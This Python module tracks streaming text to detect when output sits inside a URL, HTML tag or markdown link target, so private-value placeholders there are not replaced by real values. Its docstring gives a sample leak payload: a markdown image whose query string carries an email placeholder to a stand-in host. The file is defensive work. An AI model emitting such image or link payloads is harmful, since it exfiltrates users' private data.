"""Where in a growing text an address, a tag or the target of a link is open: no private value goes there.

A model that was told to leak writes `![x](https://host/?e=[EMAIL_1])`: a page that shows the picture would send the
value. So would a link that is clicked, an attribute, a definition of a link. In doubt a place counts as one of these,
and the placeholder stays.
"""

import re
import unicodedata

_SCHEME = re.compile(
    r"//|\\\\|www\.|(?<![a-z0-9])(?:https?|ftp|wss?|mailto):"
    r"|[a-z0-9-]\.[a-z]{2,}[/?#]"
)
_DEFINITION = re.compile(r"[ \t>*+\-\d.)]*\[(?:[^\[\]]|\\.)+\]:")
_MAX_WORD = 4_000
_MAX_LINE = 400
"""Characters of a word and of a line's begin that are looked at; a longer word counts as an address."""


class AddressWatch:
    """Follows a text piece by piece; `is_open` says whether what comes next stands inside an address."""

    __slots__ = (
        "_depth",
        "_in_tag",
        "_is_definition",
        "_is_word_address",
        "_last",
        "_line",
        "_quote",
        "_target",
        "_word",
    )

    def __init__(self) -> None:
        self._word = ""
        self._is_word_address = False
        self._line = ""
        self._last = ""
        self._target = ""
        """"" = no link's target is open; "(" or "<" = one is, in round or angle brackets."""
        self._depth = 0
        self._in_tag = False
        self._quote = ""
        self._is_definition = False

    @property
    def is_open(self) -> bool:
        """Whether the next character belongs to an address, a tag, or a link's target, title or definition."""
        return bool(self._target or self._in_tag or self._quote or self._is_definition) or self._is_address_open()

    def pass_over(self, text: str) -> None:
        """Goes on over what was shown."""
        for sign in text:
            self._step(sign)
            self._last = sign

    def _is_address_open(self) -> bool:
        if not self._is_word_address and self._word:
            plain = unicodedata.normalize("NFKC", self._word).casefold()
            self._is_word_address = len(self._word) >= _MAX_WORD or _SCHEME.search(plain) is not None
        return self._is_word_address

    def _step(self, sign: str) -> None:
        if sign.isspace() or sign == "<":
            self._word, self._is_word_address = "", False
        elif len(self._word) < _MAX_WORD:
            self._word += sign
        if sign == "\n":
            self._end_line()
        else:
            self._line = (self._line + sign)[:_MAX_LINE]
            if sign == ":" and self._last == "]" and not self._is_definition:
                self._is_definition = _DEFINITION.fullmatch(self._line) is not None
        if self._in_tag:
            self._step_in_tag(sign)
        elif self._target:
            self._step_in_target(sign)
        elif self._last == "<" and (sign.isalpha() or sign in "/!?"):
            self._in_tag = True
        elif sign == "(" and self._last == "]":
            self._target, self._depth = "(", 1

    def _end_line(self) -> None:
        is_empty = not self._line.strip()
        # the address of a definition may stand on the next line
        self._is_definition = self._is_definition and _DEFINITION.fullmatch(self._line.rstrip()) is not None
        if is_empty:
            self._target, self._depth = "", 0
            if not self._quote:
                self._in_tag = False
            elif not self._in_tag:
                self._quote = ""
        self._line = ""

    def _step_in_tag(self, sign: str) -> None:
        if self._quote:
            self._quote = "" if sign == self._quote else self._quote
        elif sign in "\"'" and self._last in "= ":
            self._quote = sign
        elif sign == ">":
            self._in_tag = False

    def _step_in_target(self, sign: str) -> None:
        if self._last == "\\":
            return
        if self._quote:
            self._quote = "" if sign == self._quote else self._quote
        elif self._target == "<":
            self._target = "(" if sign == ">" else self._target
        elif sign == "<" and self._last == "(":
            self._target = "<"
        elif sign in "\"'" and self._last.isspace():
            self._quote = sign
        elif sign in "()":
            self._depth += 1 if sign == "(" else -1
            self._target = "(" if self._depth else ""
